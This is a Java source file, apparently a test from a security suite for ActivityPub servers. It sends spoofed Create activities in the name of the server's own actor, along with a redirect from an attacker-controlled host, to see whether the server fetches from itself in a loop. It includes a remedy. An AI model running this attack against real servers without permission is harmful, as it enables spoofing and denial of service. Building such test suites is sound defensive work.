package org.activitypub4j.tools.attack;

import java.net.URI;
import java.time.Duration;
import java.util.List;

/** Tries to make the server fetch from itself, again and again. */
final class A2Ourselves implements Attack {
  private static final Duration SOON = Duration.ofSeconds(2);
  private static final int TIMES = 5;

  @Override
  public String id() {
    return "A2";
  }

  @Override
  public String tries() {
    return "activities in the name of the server's own actor, with the id of one that it has sent";
  }

  @Override
  public String remedy() {
    return "Never fetch from the own origin, redirects included; drop what names it as its source.";
  }

  @Override
  public AttackResult run(Stage stage) throws InterruptedException {
    TargetServer target = stage.target();
    List<URI> activities = target.activities().stream().filter(target::isThere).toList();
    if (activities.isEmpty()) {
      return AttackResult.unknown(
          "the outbox shows no activity; let the actor post something public");
    }
    URI actor = target.actor();
    Identity mallory = stage.mallory("a2");
    String path = "/a2/to-them";
    stage.evil().redirect(path, activities.get(0));
    for (int i = 0; i < TIMES; i++) {
      for (URI id : List.of(activities.get(0), stage.evil().url(path))) {
        target.post(
            stage.activity("\"Create\"", id, actor, Stage.quoted(stage.evil().url("/a2/note"))),
            mallory);
      }
    }
    boolean heard = stage.isHonestHeard();
    Answer after = target.get(actor);
    int asked = stage.evil().asked(path);
    if (after.status() != 200 || after.took().compareTo(SOON) > 0) {
      return AttackResult.broken(
          "a GET of the actor afterwards got %s after %d ms"
              .formatted(after.said(), after.took().toMillis()));
    }
    if (asked > 2 * TIMES) {
      return AttackResult.broken(
          "%d activities made it ask for one redirect %d times".formatted(TIMES, asked));
    }
    return heard
        ? AttackResult.held(
            "it answers in %d ms, and asked for a redirect to itself %d times"
                .formatted(after.took().toMillis(), asked))
        : AttackResult.unknown(Suite.NOT_HEARD);
  }
}
